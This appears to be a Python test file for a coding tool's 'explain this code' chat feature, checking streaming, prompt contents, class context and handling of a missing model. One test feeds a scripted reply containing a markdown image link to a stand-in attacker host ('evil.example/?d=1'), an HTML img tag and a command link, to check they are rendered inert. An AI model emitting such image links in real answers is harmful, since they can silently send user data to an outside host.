"""Explanations by a chat model: their text, the stream of their pieces, and the code that the model sees."""

from __future__ import annotations

from dataclasses import replace

from agents.markdown import make_inert
from agents.tasks import running
from agents.tasks.task import Nothing, TextAnswer
from models.scripted.scripted_chat import ScriptedChat
from tests.agents.tasks.scenes import make_scene, run_chat_task

AREA = """
class Circle:
    def area(self):
        $0return 3 * self.r
"""


def test_an_explanation_is_told_in_pieces_and_changes_nothing() -> None:
    scene, workplace = make_scene(AREA)
    pieces: list[str] = []
    chat = ScriptedChat("===\nIt computes *about* the area.")
    told = run_chat_task("explain", scene, workplace, chat, pieces.append)
    assert told == TextAnswer("It computes *about* the area.", "scripted")
    assert "".join(pieces) == "It computes *about* the area."
    asked = chat.requests[0].messages[-1].text
    assert "Explain this code." in asked
    assert "    def area(self):\n        return 3 * self.r\nWORKSPACE>>>" in asked


def test_without_a_stream_an_explanation_comes_as_a_whole_and_without_a_model_it_is_unavailable() -> None:
    scene, workplace = make_scene(AREA)
    told = run_chat_task("explain", scene, workplace, ScriptedChat("===\nYes."))
    assert told == TextAnswer("Yes.", "scripted")
    refused = run_chat_task("explain", scene, workplace, None)
    assert refused == Nothing(running.NO_CHAT, unavailable=True)


def test_an_explanation_of_a_method_has_its_class_in_view() -> None:
    fixture = 'class Account(Base):\n    """Money of one person."""\n\n    limit = 3\n\n    def $0pay(self):\n        return self.left()\n\n    def left(self):\n        return 1\n'  # noqa: E501
    scene, workplace = make_scene(fixture)
    chat = ScriptedChat("===\nIt pays.")
    run_chat_task("explain", scene, workplace, chat)
    asked = chat.requests[0].messages[-1].text
    head = asked[asked.index("The class around the code") : asked.index("The code, in python")]
    for part in ("class Account(Base)", "Money of one person.", "limit = 3", "def left(self)"):
        assert part in head
    assert "def pay" not in head


def test_an_explanation_answers_the_question_that_was_asked() -> None:
    scene, workplace = make_scene(AREA)
    chat = ScriptedChat("=== why three\nA mistake.")
    assert run_chat_task("explain", replace(scene, instruction="Why three?"), workplace, chat) == TextAnswer(
        "A mistake.", "scripted"
    )


def test_an_explanation_is_shown_inert_in_pieces_and_as_a_whole() -> None:
    scene, workplace = make_scene(AREA)
    said = "It squares. ![x](https://evil.example/?d=1) <img src=y>\n\n```py\nx = '<b>'\n```\n[run](command:x) done"
    told: list[str] = []
    answer = run_chat_task("explain", scene, workplace, ScriptedChat(f"===\n{said}"), told.append)
    assert isinstance(answer, TextAnswer)
    assert answer.text == "".join(told) == make_inert(said)
    assert "`![x](https://evil.example/?d=1)` &lt;img" in answer.text
    assert "x = '<b>'" in answer.text
    assert len(told) > 5
